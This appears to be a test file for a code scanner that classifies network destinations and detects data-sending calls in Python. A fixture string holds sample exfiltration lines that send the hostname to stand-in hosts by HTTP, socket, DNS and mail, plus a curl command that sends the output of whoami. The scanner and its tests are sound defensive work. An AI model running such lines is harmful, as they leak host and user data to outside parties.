"""Destinations and what is sent there."""

import pytest

from lazaretto.detect.pycode import Place, defanged, place, sendings, short
from lazaretto.parse.blob import Blob
from lazaretto.parse.python import PythonModule


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("https://api.example.test/x", Place.PUBLIC),
        ("http://localhost:8000/", Place.LOCAL),
        ("http://127.0.0.1", Place.LOCAL),
        ("http://10.1.2.3/", Place.LOCAL),
        ("http://192.0.2.7/x", Place.BARE),
        ("192.0.2.7", Place.BARE),
        ("https://host.example.test:1488/x", Place.BARE),
        ("https://host.example.test:²²/x", Place.PUBLIC),
        ("https://pastebin.com/raw/0", Place.SHARED),
        ("https://webhook.site/0", Place.DROP),
        ("http://\0.abc.oastify.com/", Place.DROP),
        ("https://discord.com/api/webhooks/1/a", Place.DROP),
        ("https://discord.com/channels", Place.PUBLIC),
        ("https://\0/x", Place.UNKNOWN),
        ("\0", Place.UNKNOWN),
        ("some text", Place.UNKNOWN),
        ("", Place.UNKNOWN),
    ],
)
def test_place(address, expected):
    assert place(address) is expected


def test_sendings_of_every_kind():
    text = (
        "import requests, socket, os, smtplib\nh = socket.gethostname()\nrequests.get('https://a.example.test/?' + h)\n"
        "s = socket.socket()\ns.connect(('192.0.2.7', 1))\ns.send(h.encode())\nsocket.gethostbyname(h + '.b.example.test')\n"
        "os.system('curl https://c.example.test/$(whoami)')\nsmtplib.SMTP('h').sendmail('a', 'b', h)\n"
    )
    view = PythonModule.of(Blob("a.py", text.encode()))
    found = [(s.call.line, s.how, sorted(s.hosts)) for s in sendings(view)]
    assert found == [
        (3, "http", ["host:name"]),
        (6, "socket", ["host:name"]),
        (7, "dns", ["host:name"]),
        (8, "command", ["host:user"]),
        (9, "mail", ["host:name"]),
    ]


def test_texts_for_messages():
    assert defanged("https://a.example.test/x.y") == "hxxps://a[.]example[.]test/x.y"
    assert short("a\0\0b\n c", 100) == "a...b c"
    assert short("x" * 50, 10) == "xxxxxxx..."
